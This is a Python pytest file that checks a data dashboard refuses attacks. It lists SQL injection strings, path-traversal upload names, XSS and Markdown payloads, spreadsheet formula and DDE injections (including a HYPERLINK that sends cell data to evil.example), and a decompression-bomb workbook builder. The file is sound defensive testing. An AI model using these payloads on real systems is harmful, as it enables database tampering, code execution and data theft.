"""Attacks tried and refused (#9), each a test: SQL injection through every command-line filter and form
field and every URL parameter, path traversal in upload names, HTML, Markdown and formulas in every text
column and header, oversized and decompression-bomb workbooks and Parquet files, a partner uploading for
another partner, and a viewer reaching an upload or admin action.

What "refused" means here: the hostile text reaches SQL only as a bound value (stored exactly as sent, or
refused with a one-line message; every table still there), reaches the file system never, reaches a figure
as entities (plotly shows them as the characters), reaches a download with formulas neutralised.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers import ROOT, TODAY, csv_bytes, rows_from, valid
from streamlit.testing.v1 import AppTest

from siree_metrics import accounts, cli
from siree_metrics.accounts import AccountError
from siree_metrics.charts import indicators as charts
from siree_metrics.downloads import frame_csv
from siree_metrics.ingest import audit, limits, store
from siree_metrics.ingest.detect import problem_table
from siree_metrics.ingest.limits import Limits
from siree_metrics.ingest.load import check_file, load_file
from siree_metrics.ingest.problems import Refused
from siree_metrics.metrics import series
from siree_metrics.metrics.filters import Filters
from siree_metrics.reference import load_reference
from ui import checker, url

SQL = ["' OR '1'='1", "BE'); DROP TABLE batches; --", "1; DELETE FROM startups", '" OR 1=1 --',
       "FRE11' UNION SELECT sha256 FROM batches --"]
HOSTILE = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "![p](http://evil.example/h.png)",
           '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1:A2)",
           "'; DROP TABLE startups; --"]


def tables(db: Path) -> list[str]:
    with store.connect(db) as con:
        return [t for (t,) in con.execute("SELECT table_name FROM duckdb_tables() WHERE database_name = "
                                          "current_database() ORDER BY 1").fetchall()]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Start-ups whose sector and entrepreneur id hold each hostile text (E-row i: HOSTILE[i]), loaded by a
    file whose name is an injection, by a loader named by one."""
    folder = tmp_path_factory.mktemp("hostile")
    db = folder / "siree.duckdb"
    records = [valid("startups", entrepreneur_id=f"E{i}{text}", sector=text) for i, text in enumerate(HOSTILE)]
    path = folder / "x'); DROP TABLE batches; --.csv"
    path.write_bytes(csv_bytes(rows_from(records)))
    result = load_file(db, "startups", path, loaded_by="'); DELETE FROM batches; --", today=TODAY)
    assert (result.status, result.rows) == ("loaded", len(HOSTILE)), result.report()
    return db


# -- SQL injection -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("option", ["--country", "--region", "--partner"])
@pytest.mark.parametrize("value", SQL)
def test_sql_in_a_summary_filter_is_refused_as_an_unknown_code(hostile_db: Path, option: str, value: str,
                                                                capsys: pytest.CaptureFixture) -> None:
    before = tables(hostile_db)
    assert cli.main(["summary", "--db", str(hostile_db), option, value]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "unknown" in err.lower(), err
    assert tables(hostile_db) == before


@pytest.mark.parametrize("argv", [
    ["summary", "--as-of", SQL[0]], ["summary", "--as-loaded-on", SQL[1]], ["export", "--dataset", SQL[2]],
    ["pack", "--out", "x", "--lang", SQL[0]], ["retract", "--batch", SQL[1], "--reason", "x"],
])
def test_sql_in_a_typed_option_is_bad_usage(hostile_db: Path, argv: list[str], capsys: pytest.CaptureFixture) -> None:
    assert cli.main([argv[0], "--db", str(hostile_db), *argv[1:]]) == 2
    assert "Traceback" not in capsys.readouterr().err


def test_sql_in_free_text_is_stored_exactly_as_sent(hostile_db: Path, tmp_path: Path) -> None:
    db = tmp_path / "copy.duckdb"
    db.write_bytes(hostile_db.read_bytes())
    act = audit.retract(db, 1, by=SQL[1], reason=SQL[3])  # the admin's form fields (--by, --reason)
    assert act.rows_out == len(HOSTILE)
    with store.connect(db) as con:
        assert con.execute("SELECT file_name, loaded_by FROM batches").fetchall() == [
            ("x'); DROP TABLE batches; --.csv", "'); DELETE FROM batches; --")]
        assert con.execute("SELECT done_by, reason FROM batch_log").fetchall() == [(SQL[1], SQL[3])]
        assert sorted(s for (s,) in con.execute("SELECT sector FROM startups_replaced").fetchall()) == sorted(HOSTILE)
    assert tables(db) == tables(hostile_db)


def test_sql_in_an_account_name_is_refused_and_logs_nobody_in(tmp_path: Path) -> None:
    db = tmp_path / "siree.duckdb"
    accounts.add(db, "boss", "admin", "correct horse battery")
    for name in [*SQL, "admin'--", "boss\x00", "../etc/passwd", "<b>x</b>"]:
        with pytest.raises(AccountError):
            accounts.add(db, name, "admin", "correct horse battery")
    for name, password in ((SQL[0], SQL[0]), ("boss", "' OR '1'='1")):  # the login form's two fields
        with pytest.raises(AccountError):
            accounts.login(db, name, password)
    assert [n for n, *_ in accounts.listing(db)] == ["boss"]


@pytest.mark.parametrize("param", url.PARAMS)
@pytest.mark.parametrize("value", [*SQL, "<script>alert(1)</script>", "![p](http://evil.example/h.png)", "x" * 5000])
def test_sql_and_markup_in_a_url_parameter_are_dropped_and_quoted_as_plain_text(param: str, value: str) -> None:
    asked = url.parse({param: value}, load_reference(), dt.date(2021, 12, 31), first_loaded=dt.datetime(2021, 1, 1),
                      now=dt.datetime(2022, 6, 30))
    kept = asked.state()
    assert all(value not in str(v) for v in kept.values())  # nothing of it is used
    assert len(asked.notices) == 1  # and the page says so, in plain text
    notice = asked.notices[0]
    quoted = re.search(r"'([^']*)'", notice)
    assert quoted is not None, notice  # the value is quoted back, shortened, with only harmless characters
    assert all(ch.isalnum() or ch in " -_.,:/@·…" for ch in quoted.group(1)), notice
    assert len(notice) < 300


# -- path traversal in upload names ------------------------------------------------------------------------------

@pytest.mark.parametrize("sent", ["../../../../etc/cron.d/evil", "/etc/passwd", "..\\..\\windows\\system32\\x.csv",
                                  "C:\\evil.csv", "a/../../b.csv", "file\x00.csv", "\u202ecod.exe", "."])
def test_an_upload_name_never_reaches_the_file_system(sent: str) -> None:
    saved = checker.save_upload(b"partner_id\nUOG\n", sent)
    try:
        assert saved.path.parent == checker.uploads_folder()
        assert saved.path.resolve().is_relative_to(checker.uploads_folder().resolve())
        assert re.fullmatch(r"[0-9a-f]{16}\.upload", saved.path.name)  # a generated name, nothing of the sent one
        assert "/" not in saved.display and "\\" not in saved.display and "\x00" not in saved.display
    finally:
        checker.discard(saved.path)
    assert not Path("/etc/cron.d/evil").exists()


# -- HTML, Markdown and formulas in text columns and headers -----------------------------------------------------

def test_hostile_text_round_trips_exactly_and_leaves_neutralised(hostile_db: Path, tmp_path: Path,
                                                                capsys: pytest.CaptureFixture) -> None:
    raw, safe = tmp_path / "raw.csv", tmp_path / "safe.csv"
    assert cli.main(["export", "--db", str(hostile_db), "--dataset", "startups", "--raw", "--out", str(raw)]) == 0
    assert cli.main(["export", "--db", str(hostile_db), "--dataset", "startups", "--out", str(safe)]) == 0
    exact = [r["sector"] for r in csv.DictReader(raw.open(encoding="utf-8", newline=""))]
    assert exact == HOSTILE  # stored and given back byte for byte (--raw)
    shown = [r["sector"] for r in csv.DictReader(safe.open(encoding="utf-8", newline=""))]
    # a cell starting with = + - @ gets a leading apostrophe; the others are text a spreadsheet does not run
    assert shown == [t if t[0] not in "=+-@" else "'" + t for t in HOSTILE]
    assert all(not s.startswith(("=", "+", "-", "@")) for s in shown)


def test_hostile_sectors_are_escaped_in_the_entrepreneurship_chart(hostile_db: Path) -> None:
    with store.connect(hostile_db) as con:
        df = series.breakdown(con, "new_entrepreneurs", "sector", Filters(), dt.date(2018, 3, 1),
                              dt.date(2021, 12, 31), dt.date(2021, 12, 31))
    assert sorted(df["sector"]) == sorted(HOSTILE)  # the data as sent ...
    fig = charts.breakdown_bars(df, "sector")
    text = fig.to_json()
    for tag in ("<script", "<img", "</script>"):
        assert tag not in text  # ... the figure with < > & as entities: no tag reaches the browser
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in set(fig.data[0].y)
    assert '&lt;img src=x onerror="alert(1)"&gt;' in set(fig.data[0].y)
    # the chart-data download neutralises formulas
    download = frame_csv(df).decode("utf-8")
    assert "'=HYPERLINK" in download and "\n=HYPERLINK" not in download and ",=HYPERLINK" not in download


def test_hostile_headers_and_values_in_a_refused_file_reach_the_problem_list_as_text(tmp_path: Path) -> None:
    header = ["partner_id", "region", "entrepreneur_id", "registered_on", "sector", *HOSTILE[:3]]
    rows = [header, ["UOG", "UKJ41", "E1", HOSTILE[0], HOSTILE[3], "a", "b", "c"]]
    path = tmp_path / "evil.csv"
    path.write_bytes(csv_bytes(rows))
    checked = check_file(path, "startups", display=checker.display_name(HOSTILE[2]), today=TODAY)
    assert not checked.ok
    table = problem_table(checked)
    assert any(HOSTILE[0] in str(v) for v in table["value"].dropna())  # the value, quoted as sent
    assert any(HOSTILE[2] in w or "h.png" in w for w in checked.warnings)  # the unknown header, named
    assert checked.preview and set(checked.preview[0]) >= {"sector"}  # the preview holds text, shown as a table
    download = frame_csv(table).decode("utf-8")
    assert "\n=" not in download and ",=" not in download and ",@" not in download


# -- oversized files and decompression bombs ---------------------------------------------------------------------

def _bomb_xlsx(path: Path, mb: int) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", '<worksheet><dimension ref="A1:F1048576"/>' + " " * (mb << 20)
                   + "</worksheet>")
    return path


def test_a_workbook_bomb_is_refused_from_its_zip_directory(tmp_path: Path, db: Path) -> None:
    bomb = _bomb_xlsx(tmp_path / "bomb.xlsx", 120)  # 120 MB of spaces pack into about 120 KB
    assert bomb.stat().st_size < 1 << 20
    with pytest.raises(Refused, match=r"^bomb\.xlsx: "):
        limits.check(bomb, "bomb.xlsx", Limits().for_command_line())
    assert cli.main(["load", "--db", str(db), "--dataset", "startups", str(bomb)]) == 1
    assert not db.exists()  # nothing read, nothing made


def test_a_parquet_file_of_millions_of_rows_is_refused_from_its_footer(tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = tmp_path / "many.parquet"  # 3,000,000 identical rows compress to a few KB
    n = 3_000_000
    pq.write_table(pa.table({"partner_id": pa.array(["UOG"] * n), "region": pa.array(["UKJ41"] * n)}), path)
    assert path.stat().st_size < 1 << 20
    with pytest.raises(Refused, match=r"rows"):
        limits.check(path, "many.parquet", Limits())  # the upload limit (2,000,000 rows)


def test_a_csv_of_thousands_of_columns_is_refused_in_one_bounded_line(tmp_path: Path) -> None:
    path = tmp_path / "wide.csv"
    path.write_text(",".join(f"c{i}" for i in range(5000)) + "\n" + ",".join("1" for _ in range(5000)) + "\n")
    found = checker.check(path, "startups", "wide.csv", Limits())  # the upload path, in a worker process
    refusal = found.checked.refusal
    assert refusal is not None and refusal.startswith("wide.csv: this is not a file of the startups dataset")
    assert "(c0, c1, c2, c3, c4, c5, ...)" in refusal and len(refusal) < 400  # six names, then "..."


def test_an_oversized_upload_is_refused_by_its_size(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with path.open("wb") as f:
        f.truncate(3 << 20)  # a sparse 3 MB file
    with pytest.raises(Refused, match=r"MB"):
        limits.check(path, "big.csv", Limits(file_mb=2))


# -- roles: another partner's rows, a viewer -------------------------------------------------------------------

def test_a_partner_cannot_upload_another_partners_rows_even_one(tmp_path: Path, db: Path) -> None:
    own = tmp_path / "own.csv"
    own.write_bytes(csv_bytes(rows_from([valid("startups", partner_id="UOG", region="UKJ41")])))
    assert load_file(db, "startups", own, loaded_by="uog-user", partners=("UOG",), today=TODAY).status == "loaded"
    before = tables(db), _batches(db)
    sneaky = [valid("startups", partner_id="UOG", region="UKJ41", entrepreneur_id=f"E{i}") for i in range(50)]
    sneaky.append(valid("startups", partner_id="MECHELEN", region="BE212", entrepreneur_id="E999"))
    path = tmp_path / "sneaky.csv"
    path.write_bytes(csv_bytes(rows_from(sneaky)))
    result = load_file(db, "startups", path, loaded_by="uog-user", partners=("UOG",), today=TODAY)
    assert result.status == "refused"
    assert result.report() == ["sneaky.csv:52: partner_id: 'MECHELEN' is another partner's; this account may send "
                               "UOG's rows only"]  # row 52: the header is row 1, the 51st record
    assert (tables(db), _batches(db)) == before


def _batches(db: Path) -> list[tuple]:
    with store.connect(db) as con:
        return con.execute("SELECT batch_id, loaded_by FROM batches ORDER BY 1").fetchall()


@pytest.fixture
def viewer_app(hostile_db: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[AppTest]:
    monkeypatch.setenv("SIREE_DB", str(hostile_db))
    monkeypatch.delenv("SIREE_UPLOADS", raising=False)
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=60)
    at.switch_page("pages/6_Data.py").run()
    yield at


def test_a_viewer_reaches_no_upload_no_retraction_and_no_accounts(viewer_app: AppTest) -> None:
    at = viewer_app
    assert not at.exception
    assert not at.get("file_uploader")
    assert not [b for b in at.button if "etract" in (b.label or "") or "estore" in (b.label or "")]
    assert "Accounts" not in [s.value for s in at.subheader]
    assert not [t for t in at.text_input if (t.key or "").startswith("auth_add")]
    # and what the viewer does see never carries the hostile text as markup
    shown = " ".join(str(m.value) for m in [*at.markdown, *at.caption, *at.info])
    assert "<script" not in shown and "![p](" not in shown


def test_a_partner_sees_no_retraction_and_no_accounts(hostile_db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from siree_metrics.accounts import User
    from ui import auth

    monkeypatch.setenv("SIREE_DB", str(hostile_db))
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=60)
    at.session_state[auth.USER] = (User("ann", "partner", "UOG"), dt.datetime.now())
    at.switch_page("pages/6_Data.py").run()
    assert not at.exception
    assert not [b for b in at.button if "etract" in (b.label or "")]
    assert "Accounts" not in [s.value for s in at.subheader]


def test_the_csv_helper_of_this_file_writes_what_it_is_given() -> None:
    # guards the fixture: the hostile rows reach the loader exactly (csv quoting, not the loader, adds quotes)
    text = csv_bytes([["sector"], [HOSTILE[3]]]).decode()
    assert list(csv.reader(io.StringIO(text)))[1] == [HOSTILE[3]]
